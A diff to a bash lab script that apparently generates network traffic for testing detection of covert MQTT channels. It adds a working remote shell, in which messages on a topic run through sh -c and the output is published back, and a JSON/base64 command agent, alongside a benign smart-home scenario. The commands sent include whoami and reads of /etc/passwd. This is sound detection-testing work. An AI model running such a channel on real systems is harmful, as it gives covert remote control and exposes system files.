@@ -8,7 +8,7 @@
 set -eu
 export XFL_PREFIX=${XFL_PREFIX:-car}
 all=(socket_upload socket_words socket_shell benign_sockets tls13_shell tls13_shell_openssl benign_tls13
-    mqtt_file mqtt_words benign_mqtt)
+    mqtt_file mqtt_words benign_mqtt mqtt_shell mqtt_agent benign_mqtt_home)
 # shellcheck source=tests/lab/lab.sh
 . "$(dirname "$0")/lab.sh"
 far=203.0.113.24
@@ -91,6 +91,51 @@ benign_mqtt() { # sensors that tell what they measure, and one with pictures
     done
     seq -f '{"power":%g,"volt":230.1,"phase":"a"}' 100 | "${cli[@]}" timeout 10 mosquitto_pub -h $far -t plant/line -l || true
     for _ in 1 2 3 4 5; do "${cli[@]}" mosquitto_pub -h $far -t door/picture -f "$dir/picture.png" || true; done
+}
+
+obey() { # topic: runs what comes by it and publishes what it printed, a connection for each answer
+    local line
+    "${cli[@]}" timeout 16 mosquitto_sub -h $far -i "$1" -t "$1/in" | while read -r line; do
+        sh -c "$line" 2>&1 | "${cli[@]}" mosquitto_pub -h $far -t "$1/out" -s || true
+    done
+}
+mqtt_shell() { # a shell of three programs: mosquitto_sub, sh, mosquitto_pub
+    broker
+    obey node4 &
+    pids+=($!)
+    sleep 1.5
+    local line
+    for line in id whoami 'cat /etc/passwd | head -4' 'ls -l /usr'; do
+        "${srv[@]}" mosquitto_pub -h $far -t node4/in -m "$line" && sleep 1.5
+    done
+}
+mqtt_agent() { # one connection, JSON and base64 both ways
+    broker
+    "${cli[@]}" timeout 14 /usr/bin/python3 "$here/mqtt_agent.py" $far 1883 dev/a7 &
+    pids+=($!)
+    sleep 1.5
+    local line
+    for line in whoami 'cat /etc/passwd | head -4' 'ls -l /usr'; do
+        "${srv[@]}" mosquitto_pub -h $far -t dev/a7/cmd -m "{\"id\": 7, \"cmd\": \"$line\"}" && sleep 1.5
+    done
+    "${srv[@]}" mosquitto_pub -h $far -t dev/a7/cmd -m "$(printf 'cmd /c dir' | base64)" && sleep 1.5
+}
+benign_mqtt_home() { # a home: retained descriptions, switches, states, an image of a device's program that comes in
+    broker
+    local n
+    for n in 1 2 3; do
+        "${srv[@]}" mosquitto_pub -r -h $far -t "homeassistant/switch/s$n/config" -m "{\"name\":\"Lamp $n\",\"command_topic\":\"home/s$n/set\",\"state_topic\":\"home/s$n/state\",\"device\":{\"identifiers\":[\"s$n\"],\"sw_version\":\"2.4.$n\",\"model\":\"Plug\"}}"
+    done
+    "${cli[@]}" timeout 14 mosquitto_sub -h $far -i home -t 'homeassistant/#' -t 'home/+/set' -t 'ota/#' >/dev/null &
+    pids+=($!)
+    sleep 1
+    for n in 1 2 3 1 2 3; do
+        "${srv[@]}" mosquitto_pub -h $far -t "home/s$n/set" -m "$([ $n = 2 ] && echo OFF || echo '{"state":"ON","type":"set","echo":"dir"}')" && sleep 0.3
+        "${cli[@]}" mosquitto_pub -h $far -i "s$n" -t "home/s$n/state" -m '{"state":"ON","power":12.4,"uptime":86021,"hostname":"plug-7","ip":"10.20.1.10","os":"esp-idf 4.4","free":123456}' && sleep 0.5
+    done
+    { printf '\351\003\002\057' && cat "$dir/noise"; } >"$dir/firmware.bin"
+    "${srv[@]}" mosquitto_pub -h $far -t ota/s1 -f "$dir/firmware.bin" && sleep 1
+    "${cli[@]}" mosquitto_pub -h $far -i s1 -t home/s1/log -m 'boot: ota ok, 40004 bytes, sha256 9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08'
 }
 
 run_lab "$@"
